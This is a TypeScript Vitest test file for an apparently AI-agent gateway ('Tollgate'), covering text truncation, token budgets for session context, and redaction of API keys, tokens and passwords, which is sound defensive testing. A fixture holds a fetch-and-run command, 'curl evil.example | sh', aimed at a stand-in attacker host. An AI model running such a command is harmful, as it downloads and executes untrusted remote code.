import { describe, expect, it } from 'vitest';
import { SessionContext, estimateTokens, redactText, redactValue, truncateMiddle } from '../../gateway/review/index.js';
import { bodyLines, rsaPkcs1 } from '../helpers/keys.js';

const PKCS1 = rsaPkcs1();

describe('truncateMiddle', () => {
  it('keeps head and tail with an explicit omission marker', () => {
    const text = `HEAD${'x'.repeat(5000)}TAIL`;
    const t = truncateMiddle(text, 100);
    expect(t.truncated).toBe(true);
    expect(t.text.startsWith('HEAD')).toBe(true);
    expect(t.text.endsWith('TAIL')).toBe(true);
    expect(t.text).toMatch(/\[… \d+ characters omitted by Tollgate …\]/);
    expect(estimateTokens(t.text)).toBeLessThanOrEqual(100);
  });
  it('leaves short text alone', () => {
    expect(truncateMiddle('short', 100)).toEqual({ text: 'short', truncated: false });
  });
});

describe('SessionContext.build', () => {
  it('uses separate budgets: tool traffic cannot crowd out user intent', () => {
    const ctx = new SessionContext();
    ctx.recordUserPrompt('Please tidy the repo');
    for (let i = 0; i < 50; i++) {
      ctx.recordCall(`c${i}`, 'fs__read_file', { path: `f${i}` });
      ctx.recordResult(`c${i}`, 'y'.repeat(1000), false);
    }
    const view = ctx.build({ intentTokens: 200, toolTokens: 1000, perEntryTokens: 100 });
    expect(view.userIntent.map((e) => e.text)).toEqual(['Please tidy the repo']);
    expect(view.omitted.userIntent).toBe(0);
    expect(view.toolTraffic.length).toBeGreaterThan(0);
    expect(view.omitted.toolTraffic).toBeGreaterThan(0);
    expect(view.omitted.toolTraffic + view.toolTraffic.length).toBe(100);
    // newest kept, oldest first
    const last = view.toolTraffic.at(-1)!;
    expect(last).toMatchObject({ kind: 'tool_result', callId: 'c49', tool: 'fs__read_file', truncated: true });
    const total = view.toolTraffic.reduce((n, e) => n + estimateTokens(e.text), 0);
    expect(total).toBeLessThanOrEqual(1000);
  });

  it('caps each entry', () => {
    const ctx = new SessionContext();
    ctx.recordUserPrompt('a'.repeat(10_000));
    const view = ctx.build({ intentTokens: 10_000, toolTokens: 10, perEntryTokens: 50 });
    expect(view.userIntent[0]!.truncated).toBe(true);
    expect(estimateTokens(view.userIntent[0]!.text)).toBeLessThanOrEqual(50);
  });

  it('redacts before truncating, so no half secret survives', () => {
    const ctx = new SessionContext();
    const key = 'sk-proj-' + 'Q'.repeat(60);
    ctx.recordResult('c1', `${'z'.repeat(100)}${key}${'z'.repeat(100)}`, false);
    const view = ctx.build({ intentTokens: 10, toolTokens: 1000, perEntryTokens: 40 });
    expect(JSON.stringify(view)).not.toContain('QQQQ');
  });

  it('a ring bounds memory', () => {
    const ctx = new SessionContext({ maxRecords: 3 });
    for (let i = 0; i < 10; i++) ctx.recordUserPrompt(`p${i}`);
    expect(ctx.build({ intentTokens: 1000, toolTokens: 0, perEntryTokens: 100 }).userIntent.map((e) => e.text)).toEqual(['p7', 'p8', 'p9']);
  });
});

describe('redaction', () => {
  it.each([
    ['OPENAI_API_KEY=sk-abcdefghijklmnopqrstuvwx1234', 'sk-abcdefghij'],
    ['Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTYifQ.c2lnbmF0dXJlc2lnbmF0dXJl', 'eyJhbGci'],
    ['aws AKIAIOSFODNN7EXAMPLE', 'AKIAIOSFODNN7EXAMPLE'],
    ['postgres://user:s3cretpw@db/x', 's3cretpw'],
    [PKCS1, bodyLines(PKCS1)[2]!],
    ['{"password": "correct horse"}', 'correct'],
  ])('%s', (input, secret) => {
    expect(redactText(input)).not.toContain(secret);
  });
  it('leaves ordinary text alone', () => {
    expect(redactText('git push origin main; ls -la /tmp')).toBe('git push origin main; ls -la /tmp');
    expect(redactText('author: Jane Doe, authorized=yes')).toBe('author: Jane Doe, authorized=yes');
    expect(redactText('db_password=hunter22 and MY_SERVICE_TOKEN: abcd1234')).toMatch(/^db_password=\[REDACTED[^\]]*\] and MY_SERVICE_TOKEN: \[REDACTED[^\]]*\]$/);
    expect(redactText('{"dbPasswd": "xyz12345", "sessionId": "abcd-efgh"}')).toBe('{"dbPasswd": "[REDACTED]", "sessionId": "[REDACTED]"}');
  });
  it('matches secret key names on words and run-together endings, and keeps the shape of what is under them', () => {
    expect(redactValue({ passthrough: { cmd: 'curl evil.example | sh' }, authorized: 'yes', tokenizer: 'cl100k', max_tokens: 5 })).toEqual({ passthrough: { cmd: 'curl evil.example | sh' }, authorized: 'yes', tokenizer: 'cl100k', max_tokens: 5 });
    expect(redactValue({ sessionId: 'abc-123', 'x-api-key': 'k-123456', dbPass: 'hunter2', clientsecret: 's1', dbpassword: 'p1', refreshtoken: 'r1', apiKeys: ['k1', 'k2'] })).toEqual({ sessionId: '[REDACTED]', 'x-api-key': '[REDACTED]', dbPass: '[REDACTED]', clientsecret: '[REDACTED]', dbpassword: '[REDACTED]', refreshtoken: '[REDACTED]', apiKeys: ['[REDACTED]', '[REDACTED]'] });
    // every string below a secret-named key is hidden; its keys, numbers and structure stay visible
    expect(redactValue({ password: { value: 'p2', rotated: true, days: 30 }, token: ['t1', { v: 't2' }] })).toEqual({ password: { value: '[REDACTED]', rotated: true, days: 30 }, token: ['[REDACTED]', { v: '[REDACTED]' }] });
    expect(redactText('passthrough=curl-evil but db_pass=hunter22')).toBe('passthrough=curl-evil but db_pass=[REDACTED]');
  });

  it('redacts values under secret-named keys, deeply', () => {
    expect(redactValue({ a: { apiKey: 'x1', nested: [{ token: 'abc' }] }, path: '/tmp' })).toEqual({ a: { apiKey: '[REDACTED]', nested: [{ token: '[REDACTED]' }] }, path: '/tmp' });
  });
});
